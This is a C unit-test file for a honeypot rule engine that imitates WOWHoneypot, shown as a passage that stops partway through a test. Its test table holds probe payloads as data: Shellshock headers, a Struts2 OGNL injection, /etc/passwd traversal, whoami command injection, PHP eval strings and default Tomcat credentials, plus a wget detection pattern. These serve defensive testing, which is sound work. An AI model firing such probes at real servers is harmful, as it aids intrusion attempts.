/* test_rules.c - unit tests of the WOWHoneypot-compatible rule engine (load, match, hunt). */
#include <ctype.h>
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "rules/rules.h"
#include "rules/rules_impl.h"

#define ART	"../shared/data/wowhoneypot/art"
#define LOCAL	"tests/data/rules/local"

static struct rules	*art;	/* the shipped rules, loaded once by the group setup */

/* Reads a whole file into a NUL-terminated buffer; fails the test if it cannot. */
static char *
slurp(const char *path, size_t *len)
{
	FILE	*f;
	char	*p;
	long	 n;

	f = fopen(path, "rb");
	if (f == NULL)
		fail_msg("%s: %s", path, strerror(errno));
	assert_int_equal(fseek(f, 0, SEEK_END), 0);
	n = ftell(f);
	assert_true(n >= 0);
	rewind(f);
	p = malloc((size_t)n + 1);
	assert_non_null(p);
	assert_int_equal(fread(p, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	p[n] = '\0';
	if (len != NULL)
		*len = (size_t)n;
	return p;
}

/* The file's content with ASCII white space stripped at both ends (the files are ASCII). */
static char *
slurp_stripped(const char *path, size_t *len)
{
	size_t	 n, s = 0;
	char	*p = slurp(path, &n);

	while (n > 0 && strchr(" \t\r\n\v\f", p[n - 1]) != NULL)
		n--;
	while (s < n && strchr(" \t\r\n\v\f", p[s]) != NULL)
		s++;
	memmove(p, p + s, n - s);
	p[n - s] = '\0';
	*len = n - s;
	return p;
}

static size_t
count_str(const char *hay, const char *needle)
{
	size_t		 n = 0;
	const char	*p = hay;

	while ((p = strstr(p, needle)) != NULL) {
		n++;
		p += strlen(needle);
	}
	return n;
}

static struct rules_request
mkreq(const char *method, const char *uri, const char *headers, const char *body)
{
	struct rules_request	 q;

	memset(&q, 0, sizeof(q));
	q.method = (const uint8_t *)method;
	q.method_len = strlen(method);
	q.uri = (const uint8_t *)uri;
	q.uri_len = strlen(uri);
	q.headers = (const uint8_t *)(headers != NULL ? headers : "Host: 192.0.2.1\nUser-Agent: t");
	q.headers_len = strlen((const char *)q.headers);
	if (body != NULL) {
		q.body = (const uint8_t *)body;
		q.body_len = strlen(body);
		q.has_body = 1;
	}
	return q;
}

static const char *
header_value(const struct rule_response *resp, const char *name)
{
	size_t	 i;

	for (i = 0; i < resp->nheaders; i++)
		if (strcmp(resp->headers[i].name, name) == 0)
			return resp->headers[i].value;
	return NULL;
}

static char	tmpdir[64];	/* fixtures written at run time */

static int
group_setup(void **state)
{
	char	 err[512];

	snprintf(tmpdir, sizeof(tmpdir), "/tmp/hnp-test-rules-XXXXXX");
	if (mkdtemp(tmpdir) == NULL)
		return -1;
	if (rules_load(ART, &art, err, sizeof(err)) == -1) {
		fprintf(stderr, "# %s\n", err);
		return -1;
	}
	return 0;
}

static void	rm(const char *);

static int
group_teardown(void **state)
{
	rules_free(art);
	rm("mrrules.xml");
	rm("mrrules_local.xml");
	rm("huntrules.txt");
	rm("b.txt");
	rmdir(tmpdir);
	return 0;
}

/* ---- the shipped art directory ---- */

static void
test_load_counts(void **state)
{
	char	*xml = slurp(ART "/mrrules.xml", NULL);
	size_t	 nmrr = count_str(xml, "<mrr>"), nenabled = count_str(xml, "<enable>True</enable>");

	assert_int_equal(nmrr, 44);
	assert_int_equal(count_str(xml, "<enable>"), nmrr);	/* every rule says True or not */
	assert_int_equal(rules_count(art), nenabled);
	assert_int_equal(rules_count(art), 44);
	free(xml);
}

static void
test_load_defaults(void **state)
{
	static const char *const names[] = { "hello.html", "post.html", "sample.html" };
	const struct rule_response	*d;
	char				 path[256], *want;
	size_t				 i, len;

	assert_int_equal(rules_default_count(art), 3);
	for (i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), ART "/default/%s", names[i]);
		want = slurp_stripped(path, &len);
		d = rules_default(art, (uint32_t)i);
		assert_non_null(d);
		assert_string_equal(d->note, names[i]);
		assert_int_equal(d->id, 0);
		assert_int_equal(d->status, 200);
		assert_int_equal(d->nheaders, 0);
		assert_int_equal(d->body_len, len);
		assert_memory_equal(d->body, want, len);
		free(want);
	}
	assert_int_equal(rules_default(art, 0)->body_len, 84);		/* hello.html */
	assert_ptr_equal(rules_default(art, 4), rules_default(art, 1));	/* rnd % count */
	assert_ptr_equal(rules_default(art, UINT32_MAX), rules_default(art, UINT32_MAX % 3));
	assert_true(rules_default(art, 1)->body[0] == '<');
}

/* One request per shipped rule and what WOWHoneypot answers to it. */
struct oracle {
	unsigned	 id;
	const char	*method, *uri, *headers, *body;	/* body NULL: no body */
	int		 status;
	const char	*text;	/* literal body, or NULL to compare with file */
	const char	*file;
	const char	*hname, *hvalue;	/* one header to check, or NULL */
};

static const char D_ACCOUNT[] = "<service>DEVICE.ACCOUNT</service>\n<entry>\n<uid>100</uid>\n"
    "<name>admin</name>\n<usrid>100</usrid>\n<password>adminpass</password>\n"
    "<group>administrators</group>\n<description>manage</description>\n</entry>\n";
static const char UNAME[] = "2014\nLinux webserv 4.4.0-98-generic #121-Ubuntu SMP Tue Oct 10 "
    "14:24:03 UTC 2017 x86_64 x86_64 x86_64 GNU/Linux\n 21:52:57 up 16 days, 17:53,  1 user,  "
    "load average: 0.08, 0.06, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   "
    "PCPU WHAT\nroot   pts/1    1.2.3.4   sun 1    1.00s  0.27s  0.02s sshd: root [priv]\n"
    "uid=0(root) gid=0(root) groups=0(root)\n2015\n";
#define H	"Host: 192.0.2.1\nUser-Agent: t\n"
#define COYOTE	"Server", "Apache-Coyote/1.1"

static const struct oracle oracles[] = {
	{ 1001, "GET", "/login", NULL, NULL, 200, NULL, "post.html", NULL, NULL },
	{ 1002, "POST", "/login", NULL, "u=a&p=b", 200, "login failed.", NULL, NULL, NULL },
	{ 1003, "HEAD", "/", NULL, NULL, 200, " ", NULL, NULL, NULL },
	{ 1004, "OPTIONS", "*", NULL, NULL, 200, " ", NULL, "Allow",
	  "GET,HEAD,POST,PUT,OPTIONS,CONNECT,PROPFIND" },
	{ 1005, "PUT", "/x.txt", NULL, "data", 201, "file created.", NULL, NULL, NULL },
	{ 1006, "GET", "/robots.txt", NULL, NULL, 200, NULL, "robots.txt", NULL, NULL },
	{ 1007, "GET", "/phpMyAdmin/index.php", NULL, NULL, 200, "phpmyadmin", NULL, "Set-Cookie",
	  "phpMyAdmin=1vbs1ar15h9a880ekmr49f4p4pvbuh89; path=/phpmyadmin/; HttpOnly" },
	{ 1008, "POST", "/command.php", NULL, "cmd=id", 200, "610cker", NULL, NULL, NULL },
	{ 1009, "POST", "/index.action", H "Content-Type: %{(#_='multipart/form-data')."
	  "(#cmd='echo Struts2045')}", NULL, 200, "Struts2045", NULL, NULL, NULL },
	{ 1010, "GET", "/cgi-bin/test.cgi", H "Referer: () { :;}; echo; /bin/bash -c "
	  "'echo 2014 | md5sum'", NULL, 200, "ad43fd99987a8f6a648abe05095bf52c", NULL, NULL,
	  NULL },
	{ 1011, "GET", "/wp-login.php", NULL, NULL, 200, NULL, "wp-login.html", "Set-Cookie",
	  "wordpress_test_cookie=WP+Cookie+check; path=/" },
	{ 1012, "GET", "/getcfg.php", NULL, NULL, 200, D_ACCOUNT, NULL, NULL, NULL },
	{ 1013, "GET", "/", H "X-Cmd: whoami", NULL, 200, "root", NULL, NULL, NULL },
	{ 1014, "POST", "/", NULL, "c=whoami", 200, "root", NULL, NULL, NULL },
	{ 1015, "GET", "/", H "X-File: ../../etc/passwd", NULL, 200, NULL, "passwd.txt", NULL,
	  NULL },
	{ 1016, "POST", "/", NULL, "f=/etc/passwd", 200, NULL, "passwd.txt", NULL, NULL },
	{ 1017, "GET", "/", H "User-Agent: () { :;}; echo 2014;uname -a;w;id;echo 2015", NULL,
	  200, UNAME, NULL, NULL, NULL },
	{ 1018, "POST", "/", NULL, "x=echo 2014;uname -a;w;id;echo 2015", 200, UNAME, NULL, NULL,
	  NULL },
	{ 1019, "GET", "/../../etc/passwd", NULL, NULL, 200, NULL, "passwd.txt", NULL, NULL },
	{ 1020, "GET", "/index.jsp", NULL, NULL, 200, "ok", NULL, COYOTE },
	{ 1021, "GET", "/diZPqEAuJM.jsp", NULL, NULL, 200, "42d388f8b1db997faaf7dab487f11290",
	  NULL, COYOTE },
	{ 1022, "PROPFIND", "/", NULL, NULL, 200, "ok", NULL, "Server", "Microsoft-IIS/7.0" },
	{ 1023, "GET", "/setup.cgi?next_file=netgear.cfg", NULL, NULL, 200, "ok", NULL,
	  "WWW-Authenticate", "DGN1000" },
	/* 1024 is tried before 1012, whose uri also matches. */
	{ 1024, "POST", "/getcfg.php", NULL, "SERVICES=DEVICE.ACCOUNT&x=../getcfg/DEVICE.ACCOUNT.xml",
	  200, D_ACCOUNT, NULL, NULL, NULL },
	{ 1025, "GET", "/invoker/readonly", NULL, NULL, 200, NULL, "jboss.txt", "X-Powered-By",
	  "Servlet/3.0; JBossAS-6" },
	{ 1026, "GET", "/invoker/HTTPServerILServlet", NULL, NULL, 200, NULL, "jboss.txt",
	  COYOTE },
	{ 1027, "GET", "/axis2/axis2-admin/", NULL, NULL, 200, NULL, "jboss.txt", COYOTE },
	{ 1028, "GET", "/admin-console/", NULL, NULL, 200, NULL, "jboss.txt", COYOTE },
	{ 1029, "GET", "/jmx-console/", NULL, NULL, 200, NULL, "jboss.txt", COYOTE },
	{ 1030, "GET", "/jbossws/", NULL, NULL, 200, NULL, "jboss.txt", COYOTE },
	{ 1031, "GET", "/manager/status", NULL, NULL, 401, NULL, "tomcat401.txt",
	  "WWW-Authenticate", "Basic realm=\"Tomcat Manager Application\"" },
	{ 1032, "GET", "/manager/html", NULL, NULL, 401, NULL, "tomcat401.txt", COYOTE },
	{ 1033, "GET", "/host-manager/html", NULL, NULL, 401, NULL, "tomcat401.txt", COYOTE },
	{ 1034, "GET", "/manager/html", H "Authorization: Basic dG9tY2F0OnBhc3N3b3JkCg==", NULL,
	  200, NULL, "tomcat200.txt", "Set-Cookie", "JSESSIONID=93F0540DD116537763C29FDF67102DCF" },
	{ 1035, "GET", "/", H "Content-Type: %{#cmd='echo linux--2017'}", NULL, 200,
	  "linux--2017", NULL, NULL, NULL },
	{ 1036, "GET", "/cmx.php", NULL, NULL, 200, "CMD2017", NULL, NULL, NULL },
	{ 1037, "POST", "/x.php", NULL, "a=die(pi%28%29%2A42);", 200, "131.94689145077", NULL,
	  NULL, NULL },
	{ 1038, "POST", "/x.php", NULL, "a=ZGllKHBpKCkqNDIpOw==", 200, "131.94689145077", NULL,
	  NULL, NULL },
	{ 1039, "GET", "/wp-config.php.bak", NULL, NULL, 200, NULL, "wp-config.txt", NULL, NULL },
	{ 1040, "GET", "/wls-wsat/CoordinatorPortType", NULL, NULL, 500, NULL,
	  "wls-wsat-default.txt", NULL, NULL },
	{ 1041, "POST", "/wls-wsat/CoordinatorPortType", NULL, "<soapenv:Envelope/>", 500, NULL,
	  "wls-wsat-post.txt", NULL, NULL },
	{ 1042, "POST", "/j_security_check", NULL, "j_username=a", 200, NULL,
	  "weblogic-securitycheck.html", NULL, NULL },
	{ 1043, "GET", "/index.php?cmd=whoami", NULL, NULL, 200, "root", NULL, NULL, NULL },
	{ 1044, "GET", "/index.php?a=die('z!a'.'x')", NULL, NULL, 200, "z!ax", NULL, NULL, NULL },
	/* Priority and quirks. */
	{ 1006, "GET", "/robotsXtxt", NULL, NULL, 200, NULL, "robots.txt", NULL, NULL },
	{ 1008, "GET", "/command.php", NULL, NULL, 200, "610cker", NULL, NULL, NULL },
	{ 1040, "PUT", "/wls-wsat/CoordinatorPortType", NULL, "x", 500, NULL,
	  "wls-wsat-default.txt", NULL, NULL },
	{ 1005, "PUT", "/upload", NULL, NULL, 201, "file created.", NULL, NULL, NULL },
	{ 1034, "GET", "/manager/html", "Host: h\nAuthorization: Basic dG9tY2F0OnBhc3N3b3JkCg==\n"
	  "X: y", NULL, 200, NULL, "tomcat200.txt", "Expires", "Thu, 01 Jan 1970 00:00:00 GMT" },
};

static void
check_oracle(const struct oracle *o)
{
	struct rules_request		 q = mkreq(o->method, o->uri, o->headers, o->body);
	const struct rule_response	*resp = rules_match(art, &q);
	char				 path[256], *want = NULL;
	const char			*w = o->text;
	size_t				 len;

	if (resp == NULL)
		fail_msg("%s %s: no rule matched, expected %u", o->method, o->uri, o->id);
	if (resp->id != o->id)
		fail_msg("%s %s: matched %u, expected %u", o->method, o->uri, resp->id, o->id);
	assert_int_equal(resp->status, o->status);
	if (w == NULL) {
		snprintf(path, sizeof(path), ART "/%s", o->file);
		w = want = slurp_stripped(path, &len);
	} else
		len = strlen(w);
	assert_int_equal(resp->body_len, len);
	assert_memory_equal(resp->body, w, len);
	if (o->hname != NULL) {
		assert_non_null(header_value(resp, o->hname));
		assert_string_equal(header_value(resp, o->hname), o->hvalue);
	}
	free(want);
}

static void
test_each_rule(void **state)
{
	unsigned char	 seen[45];
	size_t		 i;

	memset(seen, 0, sizeof(seen));
	for (i = 0; i < sizeof(oracles) / sizeof(oracles[0]); i++) {
		check_oracle(&oracles[i]);
		seen[oracles[i].id - 1000] = 1;
	}
	for (i = 1; i <= 44; i++)
		if (!seen[i])
			fail_msg("no oracle case for rule %zu", 1000 + i);
}

static void
test_headers_order(void **state)
{
	struct rules_request		 q = mkreq("GET", "/manager/html", H
	    "Authorization: Basic dG9tY2F0OnBhc3N3b3JkCg==", NULL);
	const struct rule_response	*resp = rules_match(art, &q);

	assert_non_null(resp);
	assert_int_equal(resp->id, 1034);
	assert_int_equal(resp->nheaders, 3);
	assert_string_equal(resp->headers[0].name, "Server");
	assert_string_equal(resp->headers[1].name, "Expires");
	assert_string_equal(resp->headers[2].name, "Set-Cookie");
	assert_string_equal(resp->note, "Tomcat manager");
}

static void
test_no_match(void **state)
{
	struct rules_request	 q = mkreq("GET", "/", NULL, NULL);

	assert_null(rules_match(art, &q));
	q = mkreq("GET", "/index.html", NULL, NULL);
	assert_null(rules_match(art, &q));
	/* Method is exact and case-sensitive. */
	q = mkreq("head", "/", NULL, NULL);
	assert_null(rules_match(art, &q));
	q = mkreq("HEADX", "/", NULL, NULL);
	assert_null(rules_match(art, &q));
	/* Case-sensitive patterns. */
	q = mkreq("GET", "/WP-LOGIN.PHP", NULL, NULL);
	assert_null(rules_match(art, &q));
}

static void
test_body_rules_need_body(void **state)
{
	struct rules_request		 q = mkreq("POST", "/", NULL, "whoami");
	const struct rule_response	*resp;

	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1014);
	q.has_body = 0;				/* the bytes are there, but no body was sent */
	assert_null(rules_match(art, &q));
	q.has_body = 1;
	q.body_len = 0;				/* empty chunked body: WOWHoneypot skips len 0 */
	assert_null(rules_match(art, &q));
	/* 1041 has no body condition: it matches a POST without body. */
	q = mkreq("POST", "/wls-wsat/CoordinatorPortType", NULL, NULL);
	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1041);
}

static void
test_header_block(void **state)
{
	struct rules_request		 q;
	const struct rule_response	*resp;

	/* The header pattern sees the whole "Name: value" block, any line. */
	q = mkreq("GET", "/", "Host: a\nAccept: */*\nX-Z: whoami\nConnection: close", NULL);
	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1013);
	/* ... and header names too. */
	q = mkreq("GET", "/", "Host: a\nStruts2045: 1", NULL);
	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1009);
	/* 1034 needs both its uri and its header. */
	q = mkreq("GET", "/manager/x", "Host: a", NULL);
	assert_null(rules_match(art, &q));
	q = mkreq("GET", "/", "Authorization: Basic dG9tY2F0OnBhc3N3b3JkCg==", NULL);
	assert_null(rules_match(art, &q));
}

static void
test_invalid_utf8_and_nul(void **state)
{
	static const uint8_t	 uri[] = "/\xff\xfe\x00/wp-login.php\xc3\x28";
	static const uint8_t	 hdr[] = "Host: \x80\x00\nX: \xed\xa0\x80 whoami \xf8";
	static const uint8_t	 body[] = "\x00\xff\xfe\xc0\xafwhoami\x00\xff";
	struct rules_request		 q;
	const struct rule_response	*resp;

	memset(&q, 0, sizeof(q));
	q.method = (const uint8_t *)"GET";
	q.method_len = 3;
	q.uri = uri;
	q.uri_len = sizeof(uri) - 1;
	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1011);
	q.uri = (const uint8_t *)"/";
	q.uri_len = 1;
	q.headers = hdr;
	q.headers_len = sizeof(hdr) - 1;
	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1013);
	q.headers = NULL;
	q.headers_len = 0;
	q.method = (const uint8_t *)"POST";
	q.method_len = 4;
	q.body = body;
	q.body_len = sizeof(body) - 1;
	q.has_body = 1;
	resp = rules_match(art, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1014);
	/* A method with a NUL is not "GET". */
	q.method = (const uint8_t *)"GET\0";
	q.method_len = 4;
	q.has_body = 0;
	q.uri = (const uint8_t *)"/login";
	q.uri_len = 6;
	assert_null(rules_match(art, &q));
	/* Everything empty or NULL. */
	memset(&q, 0, sizeof(q));
	assert_null(rules_match(art, &q));
}

/* ---- local overrides ---- */

static void
test_local_override(void **state)
{
	struct rules			*r;
	struct rules_request		 q;
	const struct rule_response	*resp;
	char				 err[512];

	if (rules_load(LOCAL, &r, err, sizeof(err)) == -1)
		fail_msg("%s", err);
	assert_int_equal(rules_count(r), 3);		/* 1001 (local), 1002, 10000; 1003 off */
	q = mkreq("GET", "/a", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1001);
	assert_int_equal(resp->status, 202);
	assert_string_equal(resp->note, "local a");
	assert_int_equal(resp->body_len, strlen("local body"));
	assert_memory_equal(resp->body, "local body", resp->body_len);
	q = mkreq("GET", "/b/local", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 10000);
	assert_int_equal(resp->status, 200);			/* no <status> */
	assert_int_equal(resp->nheaders, 1);			/* compact <header><name> */
	assert_string_equal(resp->headers[0].name, "X-Local");
	assert_string_equal(resp->headers[0].value, "yes");
	q = mkreq("GET", "/b/other", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1002);
	assert_string_equal(resp->note, "");
	q = mkreq("GET", "/c", NULL, NULL);			/* disabled */
	assert_null(rules_match(r, &q));
	/* default/: only *.html not starting with '.', stripped. */
	assert_int_equal(rules_default_count(r), 1);
	resp = rules_default(r, 7);
	assert_string_equal(resp->note, "only.html");
	assert_int_equal(resp->body_len, strlen("<p>only page</p>"));
	assert_memory_equal(resp->body, "<p>only page</p>", resp->body_len);
	rules_free(r);
}

/* ---- fixtures written at run time ---- */

static void
put(const char *name, const char *text)
{
	char	 path[256];
	FILE	*f;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	f = fopen(path, "wb");
	assert_non_null(f);
	assert_int_equal(fwrite(text, 1, strlen(text), f), strlen(text));
	assert_int_equal(fclose(f), 0);
}

static void
rm(const char *name)
{
	char	 path[256];

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	unlink(path);
}

/* Loads tmpdir with mrrules.xml = xml; expects failure with "<tmpdir>/<file>:<line>: ...". */
static void
expect_error(const char *xml, const char *file, unsigned line, const char *words)
{
	struct rules	*r = (struct rules *)1;
	char		 err[512], prefix[256];

	put("mrrules.xml", xml);
	memset(err, 0, sizeof(err));
	assert_int_equal(rules_load(tmpdir, &r, err, sizeof(err)), -1);
	assert_null(r);
	snprintf(prefix, sizeof(prefix), "%s/%s:%u: ", tmpdir, file, line);
	if (strncmp(err, prefix, strlen(prefix)) != 0 || strstr(err, words) == NULL)
		fail_msg("got \"%s\", want prefix \"%s\" and \"%s\"", err, prefix, words);
}

static struct rules *
expect_load(const char *xml)
{
	struct rules	*r;
	char		 err[512];

	put("mrrules.xml", xml);
	if (rules_load(tmpdir, &r, err, sizeof(err)) == -1)
		fail_msg("%s", err);
	return r;
}

#define HEAD	"<?xml version='1.0'?>\n<mrrs version='t'>\n"	/* lines 1-2 */
#define RULE(id, trig, resp)	"<mrr><meta><mrrid>" id "</mrrid><enable>True</enable></meta>"\
	"<trigger>" trig "</trigger><response>" resp "</response></mrr>\n"
#define OK_BODY	"<body>ok</body>"

static void
test_errors(void **state)
{
	expect_error(HEAD RULE("1001", "<uri>/a(b</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "missing closing parenthesis");
	expect_error(HEAD RULE("1001", "<uri>/a(b</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "\"/a(b\"");
	expect_error(HEAD "\n\n" RULE("1001", "<method>GET</method>\n<header>[z-a]</header>",
	    OK_BODY) "</mrrs>\n", "mrrules.xml", 6, "range out of order");
	expect_error(HEAD RULE("abc", "<uri>/</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "not an integer");
	expect_error(HEAD "\n" RULE("999", "<uri>/</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 4, "out of range");
	expect_error(HEAD RULE("65536", "<uri>/</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "out of range");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", OK_BODY) "\n"
	    RULE("1001", "<uri>/b</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 5, "duplicate mrrid 1001 (first at line 3)");
	expect_error(HEAD "<mrr>\n<meta>\n<enable>True</enable>\n</meta>\n"
	    "<trigger><uri>/</uri></trigger><response>" OK_BODY "</response></mrr>\n</mrrs>\n",
	    "mrrules.xml", 4, "without <mrrid>");
	expect_error(HEAD RULE("1001", "<uri>/</uri>",
	    "\n\n<body filename=\"missing.txt\"></body>") "</mrrs>\n",
	    "mrrules.xml", 5, "missing.txt: No such file");
	expect_error(HEAD RULE("1001", "<uri>/</uri>",
	    "<body filename=\"../mrrules.xml\"></body>") "</mrrs>\n",
	    "mrrules.xml", 3, "must name a file in the art directory");
	expect_error(HEAD RULE("1001", "<uri>/</uri>",
	    "<body filename=\"sub/x\"></body>") "</mrrs>\n",
	    "mrrules.xml", 3, "must name a file in the art directory");
	expect_error(HEAD "<mrr>\n<meta>\n</mrr>\n</mrrs>\n", "mrrules.xml", 5,
	    "malformed XML: mismatched tag");
	expect_error("", "mrrules.xml", 1, "malformed XML");
	expect_error(HEAD "<mrr>&bogus;</mrr></mrrs>", "mrrules.xml", 3, "malformed XML");
	expect_error("<?xml version='1.0'?>\n<rules/>\n", "mrrules.xml", 2, "expected <mrrs>");
	expect_error(HEAD "</mrrs>\n", "mrrules.xml", 1, "no <mrr>");
	expect_error(HEAD "\n" RULE("1001", "<mothod>GET</mothod>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 4, "<trigger> has no <method>");
	expect_error(HEAD RULE("1001", "<uri></uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "empty <uri>");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", "<status>20</status>" OK_BODY)
	    "</mrrs>\n", "mrrules.xml", 3, "status \"20\"");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", "<status>2x0</status>" OK_BODY)
	    "</mrrs>\n", "mrrules.xml", 3, "status");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", "<status>99</status>" OK_BODY)
	    "</mrrs>\n", "mrrules.xml", 3, "status");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", "<status>200</status>") "</mrrs>\n",
	    "mrrules.xml", 3, "without <body>");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", "<body></body>") "</mrrs>\n",
	    "mrrules.xml", 3, "empty <body>");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", OK_BODY "<body>x</body>") "</mrrs>\n",
	    "mrrules.xml", 3, "duplicate <body>");
	expect_error(HEAD RULE("1001", "<uri>/<b/></uri>", OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "unexpected element <b> inside <uri>");
	expect_error(HEAD RULE("1001", "<uri>/</uri>",
	    "<header><name>Bad Name</name><value>v</value></header>" OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "not an HTTP token");
	expect_error(HEAD RULE("1001", "<uri>/</uri>",
	    "<header><name>X</name><value>a&#10;b</value></header>" OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "line break");
	expect_error(HEAD RULE("1001", "<uri>/</uri>",
	    "<header><name>X</name></header>" OK_BODY) "</mrrs>\n",
	    "mrrules.xml", 3, "needs <name> and <value>");
	expect_error(HEAD "<mrr><meta><mrrid>1001</mrrid></meta></mrr></mrrs>\n",
	    "mrrules.xml", 3, "without <enable>");
	expect_error("<?xml version='1.0'?>\n<!DOCTYPE mrrs [<!ENTITY a 'b'>]>\n<mrrs/>\n",
	    "mrrules.xml", 2, "DOCTYPE");

	/* A broken local file fails the load with its own name and line. */
	put("mrrules_local.xml", HEAD "\n\n" RULE("10000", "<uri>*</uri>", OK_BODY) "</mrrs>\n");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", OK_BODY) "</mrrs>\n",
	    "mrrules_local.xml", 5, "quantifier does not follow");
	rm("mrrules_local.xml");
	/* A bad huntrules.txt line. */
	put("huntrules.txt", "wget.+https?://\n\n(curl\n");
	expect_error(HEAD RULE("1001", "<uri>/</uri>", OK_BODY) "</mrrs>\n",
	    "huntrules.txt", 3, "missing closing parenthesis");
	rm("huntrules.txt");
}

static void
test_missing_files(void **state)
{
	struct rules	*r;
	char		 err[512];

	assert_int_equal(rules_load("/nonexistent/art", &r, err, sizeof(err)), -1);
	assert_null(r);
	assert_non_null(strstr(err, "/nonexistent/art/mrrules.xml: No such file"));
	/* A tiny error buffer is still NUL-terminated. */
	memset(err, 'x', sizeof(err));
	assert_int_equal(rules_load("/nonexistent/art", &r, err, 8), -1);
	assert_int_equal(strlen(err), 7);
	assert_int_equal(rules_load("/nonexistent/art", &r, NULL, 0), -1);
}

static void
test_loader_semantics(void **state)
{
	struct rules			*r;
	struct rules_request		 q;
	const struct rule_response	*resp;
	char				*big;
	size_t				 i;

	put("b.txt", "\xe3\x80\x80 \n\tfile body \xc2\xa0\x1c\n\n");
	r = expect_load(HEAD
	    /* disabled rules are not checked at all (as WOWHoneypot) */
	    "<mrr><meta><mrrid>x</mrrid><enable>False</enable></meta></mrr>\n"
	    "<mrr><meta><mrrid>1001</mrrid><enable>true</enable></meta>"
	    "<trigger><uri>(</uri></trigger><response/></mrr>\n"
	    /* missing status: 200; compact headers; duplicate names collapse; CDATA as is */
	    RULE("1002", "<method>GET</method><uri>^/two$</uri><foo>ignored</foo>",
	    "<header><name>X-A</name><value>1</value></header>"
	    "<header>\n  <name>X-B</name>\n  <value>  2  </value>\n</header>"
	    "<header><name>X-A</name><value>3</value></header>"
	    "<header><name>x-a</name><value>4</value></header>"
	    "<body><![CDATA[  cdata  \n]]></body>")
	    RULE("1003", "<uri>^/three$</uri>", "<status> 404 </status><body filename=\"b.txt\"/>")
	    RULE("1004", "<uri>^/four$</uri>", "<body filename=\"b.txt\">  \n  </body>")
	    RULE("1005", "<uri>^/five$</uri>", "<body><![CDATA[]]></body>")
	    RULE("1006", "<uri>^/six$</uri>", "<body> text &amp; &lt;more&gt; </body>")
	    /* all conditions ANDed, repeated ones too; \\n in a header pattern spans lines */
	    RULE("1007", "<uri>^/and</uri><uri>x=1</uri><header>X-A: 1\\nX-B: 2</header>"
	    "<header>X-C</header>", OK_BODY)
	    /* a pattern that backtracks catastrophically hits the limit: no match */
	    RULE("1008", "<uri>^/(a+)+$</uri>", OK_BODY)
	    /* UCP: \\w matches non-ASCII letters, like Python 3 */
	    RULE("1009", "<uri>^/u/\\w+$</uri>", OK_BODY)
	    /* deep backtracking past JIT's small stack still matches (interpreter retry) */
	    RULE("1010", "<uri>^/d/(?:a|b)*c$</uri>", OK_BODY)
	    /* literal patterns find their text at the end of a large body */
	    RULE("1011", "<body>needle\\d</body>", OK_BODY)
	    " <!-- comment --> <other><mrr/></other>\n"
	    "</mrrs>\n");
	assert_int_equal(rules_count(r), 10);
	assert_int_equal(rules_default_count(r), 0);
	assert_null(rules_default(r, 0));

	q = mkreq("GET", "/two", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1002);
	assert_int_equal(resp->status, 200);
	assert_int_equal(resp->nheaders, 3);
	assert_string_equal(resp->headers[0].name, "X-A");
	assert_string_equal(resp->headers[0].value, "3");	/* first position, last value */
	assert_string_equal(resp->headers[1].name, "X-B");
	assert_string_equal(resp->headers[1].value, "2");	/* stripped */
	assert_string_equal(resp->headers[2].name, "x-a");	/* names are case-sensitive */
	assert_int_equal(resp->body_len, 10);
	assert_memory_equal(resp->body, "  cdata  \n", 10);
	q = mkreq("POST", "/two", NULL, NULL);
	assert_null(rules_match(r, &q));

	q = mkreq("GET", "/three", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->status, 404);
	assert_int_equal(resp->body_len, 9);			/* Unicode white space stripped */
	assert_memory_equal(resp->body, "file body", 9);
	q = mkreq("GET", "/four", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->body_len, 9);
	q = mkreq("GET", "/five", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->body_len, 0);
	q = mkreq("GET", "/six", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->body_len, strlen(" text & <more> "));
	assert_memory_equal(resp->body, " text & <more> ", resp->body_len);

